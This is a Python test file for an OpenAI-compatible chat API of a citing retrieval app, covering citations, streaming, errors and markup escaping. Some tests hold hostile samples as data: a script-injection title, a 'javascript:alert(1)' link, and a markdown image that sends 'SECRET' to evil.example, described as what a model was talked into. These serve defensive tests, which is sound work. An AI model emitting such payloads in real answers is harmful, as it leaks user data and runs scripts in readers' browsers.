"""OpenAI's chat API, asked with its official client: cited answers, streams, follow-ups."""

import json
from contextlib import contextmanager
from urllib.parse import unquote

import httpx
import openai
import pytest
from support.served_app import CHAT, FOLLOW_UP, KEY, OTHER_KEY, QUESTION, app_over, client_of, keys, listening

from hopweave.apps.server.answer_citations import NO_ANSWER, cited, without_sources
from hopweave.apps.server.kept import Entry
from hopweave.core.types import Reply, Usage
from hopweave.models.llms.scripted import Line, Scripted
from hopweave.record import Record

MODEL, ASKED = CHAT["model"], CHAT["messages"]


@pytest.fixture(scope="module")
def address(tmp_path_factory):
    with listening(app_over(tmp_path_factory.mktemp("chat"), keys=keys())) as made:
        yield made


@pytest.fixture
def client(address):
    with openai.OpenAI(base_url=f"{address}/v1", api_key=KEY, max_retries=0) as made:
        yield made


@contextmanager
def official_client(app):
    """The client of an application without keys."""
    with listening(app) as address, openai.OpenAI(base_url=f"{address}/v1", api_key="none", max_retries=0) as made:
        yield made


def test_the_official_client_gets_a_cited_answer(client, address):
    said = client.chat.completions.create(model=MODEL, messages=ASKED, temperature=0.3, max_tokens=50)
    message = said.choices[0].message
    first, source = message.content.split("\n\n")[0], message.content.split("\n\n")[-1]
    assert "Ines Halloran" in first
    assert "[1]" in first
    assert source.startswith('[1] Carrow Head: "')
    (annotation,) = message.annotations
    marked = annotation.url_citation
    assert message.content[marked.start_index : marked.end_index] == "[1]"
    assert (marked.title, marked.url) == ("Carrow Head", f"{address}/v1/corpora/light/passages/carrow")
    (citation,) = said.citations
    assert citation["passage_id"] == "carrow"
    assert citation["quote"] in "The light of Carrow Head was designed by Ines Halloran. It was lit in 1871."
    assert said.choices[0].finish_reason == "stop"
    assert said.usage.total_tokens == said.usage.prompt_tokens + said.usage.completion_tokens > 0
    assert said.id == f"chatcmpl-{said.answer_id}"


def test_the_official_client_gets_a_stream_of_reasoning_and_then_the_cited_answer(client):
    asked = {"model": MODEL, "messages": [*ASKED, {"role": "assistant", "content": "x"}, *ASKED]}
    whole = client.chat.completions.create(**asked)
    chunks = list(client.chat.completions.create(**asked, stream=True, stream_options={"include_usage": True}))
    deltas = [chunk.choices[0].delta for chunk in chunks if chunk.choices]
    reasoning = "".join(getattr(delta, "reasoning_content", "") or "" for delta in deltas)
    assert "".join(delta.content or "" for delta in deltas) == whole.choices[0].message.content
    assert "rewritten: " in reasoning
    first_words = next(number for number, delta in enumerate(deltas) if delta.content)
    assert any(getattr(delta, "reasoning_content", "") for delta in deltas[:first_words])
    assert deltas[-1].annotations[0]["type"] == "url_citation"
    assert chunks[-1].usage.total_tokens > 0
    assert len({chunk.id for chunk in chunks}) == 1


def test_a_follow_up_is_made_whole_from_the_conversation(client):
    messages = [
        {"role": "system", "content": "Be brief."},
        *ASKED,
        {"role": "assistant", "content": "Ines Halloran designed it [1]."},
        {"role": "user", "content": [{"type": "text", "text": FOLLOW_UP}]},
    ]
    said = client.chat.completions.create(model=MODEL, messages=messages)
    assert "Marlow Cross" in said.choices[0].message.content


def test_the_sources_below_an_earlier_answer_are_no_part_of_the_conversation(client, address):
    first = client.chat.completions.create(model=MODEL, messages=ASKED).choices[0].message.content
    messages = [*ASKED, {"role": "assistant", "content": first}, {"role": "user", "content": FOLLOW_UP}]
    said = client.chat.completions.create(model=MODEL, messages=messages)
    kept = httpx.get(f"{address}/v1/answers/{said.answer_id}", headers={"Authorization": f"Bearer {KEY}"}).json()
    [turn] = next(step["data"]["turns"] for step in kept["record"]["steps"] if "turns" in step.get("data", {}))
    assert "\n\n[1] Carrow Head" in first
    assert turn["answer"] == " ".join(first.partition("\n\n")[0].split())


@pytest.mark.parametrize("text", ["It is [1] so.", 'a\n\n[1] said: "b" and more', "[1] a", ""])
def test_a_message_that_ends_with_no_sources_stays_as_it_is(text):
    assert without_sources(text) == text


def test_models_are_methods_over_the_corpora_of_the_key(client, address):
    names = [model.id for model in client.models.list()]
    assert names[0] == MODEL
    assert {"searchain@light", "ircot@other", "toqd@light"} <= set(names)
    assert client.models.retrieve("searchain@other").id == "searchain@other"
    with openai.OpenAI(base_url=f"{address}/v1", api_key=OTHER_KEY, max_retries=0) as other:
        assert {model.id.partition("@")[2] for model in other.models.list()} == {"other"}
        with pytest.raises(openai.NotFoundError, match="there is no model"):
            other.chat.completions.create(model=MODEL, messages=ASKED)


def test_a_corpus_alone_is_asked_by_the_default_method(client, address):
    alone, named = (client.chat.completions.create(model=model, messages=ASKED) for model in ("light", MODEL))
    assert alone.choices[0].message.content == named.choices[0].message.content
    assert alone.model == "light"
    with (
        openai.OpenAI(base_url=f"{address}/v1", api_key=OTHER_KEY, max_retries=0) as other,
        pytest.raises(openai.NotFoundError, match="there is no model 'light'"),
    ):
        other.chat.completions.create(model="light", messages=ASKED)


def test_the_official_client_raises_its_own_errors(client, address):
    with pytest.raises(openai.NotFoundError) as none:
        client.chat.completions.create(model="gpt-4", messages=ASKED)
    assert none.value.code == "model_not_found"
    with pytest.raises(openai.NotFoundError, match="did you mean 'searchain@light'"):
        client.chat.completions.create(model="serchain@light", messages=ASKED)
    with (
        openai.OpenAI(base_url=f"{address}/v1", api_key="x", max_retries=0) as stranger,
        pytest.raises(openai.AuthenticationError),
    ):
        stranger.models.list()
    image = [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "http://evil.example/x.png"}}]}]
    for messages in (image, [{"role": "assistant", "content": "x"}], [{"role": "user", "content": " "}], []):
        with pytest.raises(openai.UnprocessableEntityError):
            client.chat.completions.create(model=MODEL, messages=messages)
    with pytest.raises(openai.UnprocessableEntityError):
        client.chat.completions.create(model=MODEL, messages=ASKED, n=3)


def test_what_the_model_thinks_is_counted_and_never_sent(tmp_path):
    thought = Reply("Ines Halloran.", usage=Usage(20, 90, thinking_tokens=80), thoughts="Hush: it must be Ines.")
    asked = {"model": MODEL, "messages": ASKED}
    with official_client(app_over(tmp_path, Scripted([("", thought)]))) as client:
        said = client.chat.completions.create(**asked)
        chunks = list(client.chat.completions.create(**asked, stream=True, stream_options={"include_usage": True}))
    assert "Hush" not in said.model_dump_json()
    assert "Hush" not in "".join(chunk.model_dump_json() for chunk in chunks)
    for usage in (said.usage, chunks[-1].usage):
        assert (usage.completion_tokens, usage.completion_tokens_details.reasoning_tokens) == (90, 80)


def test_a_model_that_does_not_think_has_the_usage_that_it_always_had(client):
    said = client.chat.completions.create(model=MODEL, messages=ASKED)
    assert set(said.usage.model_dump(exclude_none=True)) == {"prompt_tokens", "completion_tokens", "total_tokens"}


def test_a_question_that_fails_is_an_error_of_the_client_in_a_stream_too(tmp_path):
    with official_client(app_over(tmp_path, Scripted([]))) as client:
        with pytest.raises(openai.InternalServerError) as failed:
            client.chat.completions.create(model=MODEL, messages=ASKED)
        assert failed.value.status_code == 502
        with pytest.raises(openai.APIError):
            list(client.chat.completions.create(model=MODEL, messages=ASKED, stream=True))


def test_markup_in_a_passage_is_no_markup_in_a_chat(tmp_path):
    hostile = 'Light ![x](http://evil.example/x.png) <script>alert(1)</script> `code` [9] "quoted"\n# Head'
    text = "The light of Carrow Head was designed by Ines Halloran ![x](http://evil.example) <b>."
    with client_of(app_over(tmp_path)) as client:
        made = client.post("/v1/answers", json={"question": QUESTION}).json()["record"]
    quote = made["answer"]["claims"][0]["citations"][0]
    was = next(passage for passage in made["passages"] if passage["id"] == quote["passage_id"])
    was |= {"title": hostile, "text": text}
    quote |= {"quote": text, "start": 0, "end": len(text), "focus": None}
    said = cited(Record.from_json(json.dumps(made)), "http://127.0.0.1/")
    below = said.text.split("\n\n")[-1]
    assert "\\!\\[x\\]" in below
    assert "\\<script\\>" in below
    assert "\n" not in below
    assert said.annotations[0]["url_citation"]["title"] == hostile


MARKDOWN = "![x](http://evil.example/b.png?q=SECRET) It was designed by Ines Halloran, see [it](javascript:alert(1))."


def test_an_image_or_a_link_that_a_model_was_talked_into_is_none_in_a_chat(tmp_path):
    llm = Scripted([("", f"{MARKDOWN}\nSo the answer is: Ines Halloran.")])
    with official_client(app_over(tmp_path, llm)) as client:
        asked = {"model": "cot@light", "messages": ASKED}
        whole = client.chat.completions.create(**asked).choices[0].message.content
        chunks = [chunk.choices[0].delta for chunk in client.chat.completions.create(**asked, stream=True) if chunk.choices]
    reasoning = "".join(getattr(delta, "reasoning_content", "") or "" for delta in chunks)
    for shown in (whole, "".join(delta.content or "" for delta in chunks), reasoning):
        assert "](" not in shown
    assert r"![x]\(http://evil.example/b.png?q=SECRET)" in whole


def test_marks_keep_their_places_in_an_answer_with_escaped_links(tmp_path):
    llm = Scripted([("", f"{MARKDOWN} It was designed by Ines Halloran [1].\nSo the answer is: Ines Halloran.")])
    with official_client(app_over(tmp_path, llm)) as client:
        message = client.chat.completions.create(model=MODEL, messages=ASKED).choices[0].message
    marked = [one.url_citation for one in message.annotations]
    assert marked
    assert {message.content[one.start_index : one.end_index] for one in marked} == {"[1]"}


@pytest.mark.parametrize(
    ("file", "below"),
    [
        ("notes/lights.csv", '[1] Carrow Head (notes/lights.csv): "'),
        ("https://lights.example/carrow", '[1] Carrow Head: "'),
        ("Carrow Head", '[1] Carrow Head: "'),
    ],
)
def test_a_source_below_an_answer_names_the_file_that_it_was_read_from(file, below, tmp_path):
    with client_of(app_over(tmp_path)) as client:
        made = client.post("/v1/answers", json={"question": QUESTION}).json()["record"]
    for passage in made["passages"]:
        passage["source"] = file
    said = cited(Record.from_json(json.dumps(made)), "http://127.0.0.1/")
    assert said.text.split("\n\n")[-1].startswith(below)
    assert said.citations[0]["source"] == file


def test_an_annotation_names_the_edition_that_only_the_name_of_the_file_tells(tmp_path):
    with client_of(app_over(tmp_path)) as client:
        made = client.post("/v1/answers", json={"question": QUESTION}).json()["record"]
    for passage in made["passages"]:
        passage["source"] = "lights/carrow_head_2024.txt"
    said = cited(Record.from_json(json.dumps(made)), "http://127.0.0.1/")
    assert said.annotations[0]["url_citation"]["title"] == "Carrow Head (2024)"


def test_the_words_that_contradict_an_answer_stand_below_its_sources(tmp_path):
    with client_of(app_over(tmp_path)) as client:
        made = client.post("/v1/answers", json={"question": QUESTION}).json()["record"]
    claim = made["answer"]["claims"][0]
    other = next(passage for passage in made["passages"] if passage["id"] != claim["citations"][0]["passage_id"])
    against = {"mark": 0, "passage_id": other["id"], "start": 0, "end": 9, "quote": other["text"][:9], "focus": None}
    claim |= {"support": "contradicted", "contradicted_by": against, "shortfall": "rival"}
    made["answer"]["verdict"] |= {"support": "contradicted", "num_supported": 0, "num_contradicted": 1}
    said = cited(Record.from_json(json.dumps(made)), "http://127.0.0.1/")
    first, second = said.text.split("\n\n")[-1].split("\n")
    assert "(Passages disagree.)" in said.text
    assert first.startswith("[1] ")
    assert second.startswith("Says otherwise: ")
    assert second.endswith(f': "{other["text"][:9]}"')
    assert len(said.citations) == 1


def test_every_passage_that_a_mark_rests_on_is_delivered(tmp_path):
    with client_of(app_over(tmp_path)) as client:
        made = client.post("/v1/answers", json={"question": QUESTION}).json()["record"]
    (first,) = made["answer"]["claims"][0]["citations"]
    other = next(passage for passage in made["passages"] if passage["id"] != first["passage_id"])
    second, again = ({**first, "passage_id": other["id"], "start": 0, "end": end, "focus": None} for end in (5, 9))
    second["quote"], again["quote"] = other["text"][:5], other["text"][:9]
    made["answer"]["claims"][0]["citations"] = [first, second, again]
    said = cited(Record.from_json(json.dumps(made)), "http://127.0.0.1/")
    assert [one["quote"] for one in said.citations] == [first["quote"], second["quote"], again["quote"]]
    assert {one["mark"] for one in said.citations} == {1}
    places = [one["url_citation"] for one in said.annotations]
    assert [unquote(place["url"]) for place in places] == [
        f"http://127.0.0.1/{name}" for name in (first["passage_id"], other["id"])
    ]
    assert {said.text[place["start_index"] : place["end_index"]] for place in places} == {"[1]"}
    assert [line[:4] for line in said.text.split("\n\n")[-1].split("\n")] == ["[1] "] * 3


def test_an_abstention_says_so_and_cites_nothing(tmp_path):
    with official_client(app_over(tmp_path, Scripted([("", Line(""))]))) as client:
        message = client.chat.completions.create(model=MODEL, messages=ASKED).choices[0].message
    assert message.content == NO_ANSWER
    assert not message.annotations


def test_an_entry_without_what_later_versions_add_is_still_read():
    old = '{"id": "0", "started_at": "", "question": "x", "method": "direct", "corpus": "light"}'
    assert Entry.model_validate_json(old).options == {}
    assert Entry.model_validate_json(old.replace("}", ', "support": "supported"}')).standing == "supported"
    unknown = old.replace("}", ', "support": "unsupported", "standing": null}')
    assert Entry.model_validate_json(unknown).standing is None
